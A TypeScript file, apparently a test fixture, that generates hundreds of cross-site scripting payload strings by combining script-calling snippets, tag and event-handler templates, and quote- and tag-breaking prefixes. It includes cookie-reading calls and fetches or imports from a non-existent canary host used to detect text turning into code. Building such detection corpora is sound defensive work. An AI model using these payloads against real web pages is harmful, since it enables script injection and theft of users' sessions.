/** A host that does not exist: a request to it shows that a text became code. */
const CANARY = "canary.invalid";

const calls = [
  "alert(1)",
  `fetch("//${CANARY}/x")`,
  `import("//${CANARY}/x.js")`,
  "confirm(document.cookie)",
  "prompt(1)",
];
const tags = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<img src=x onerror='${call}'>`,
  (call: string) => `<svg onload='${call}'>`,
  (call: string) => `<svg><animate onbegin='${call}' attributeName=x dur=1s>`,
  (call: string) => `<iframe srcdoc="<script>${call}</script>">`,
  (call: string) => `<a href='javascript:${call}'>x</a>`,
  (call: string) => `<details open ontoggle='${call}'>`,
  (call: string) => `<body onload='${call}'>`,
  (call: string) => `<video><source onerror='${call}'></video>`,
  (call: string) => `<math><mtext></table><mglyph><style><img src onerror='${call}'>`,
  (call: string) => `<template><script>${call}</script></template>`,
  (call: string) => `<style>@import '//${CANARY}/${call}'</style>`,
  (call: string) => `<link rel=stylesheet href='//${CANARY}/${call}'>`,
  (call: string) => `<meta http-equiv=refresh content="0;url=//${CANARY}/${call}">`,
  (call: string) => `<base href='//${CANARY}/'>${call}`,
  (call: string) => `<form action='//${CANARY}'><input autofocus onfocus='${call}'>`,
  (call: string) => `<object data='javascript:${call}'>`,
  (call: string) => `<embed src='//${CANARY}/${call}'>`,
  (call: string) => `{{constructor.constructor('${call}')()}}`,
  (call: string) => "${" + call + "}",
];
const frames = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'-->]]>${text}`,
  (text: string) => `</pre></textarea></title></script>${text}`,
  (text: string) => `\u202E\u009B31m\u2028${text}\u0007\u200B`,
];

/** 500 texts that have become code somewhere: each tag with each call in each frame. */
export const hostileTexts: readonly string[] = frames.flatMap((frame) =>
  tags.flatMap((tag) => calls.map((call) => frame(tag(call)))),
);

/** 100 texts: each tag once in each frame, with changing calls. */
export const someHostileTexts: readonly string[] = frames.flatMap((frame, index) =>
  tags.map((tag, at) => frame(tag(calls[(at + index) % calls.length] ?? ""))),
);
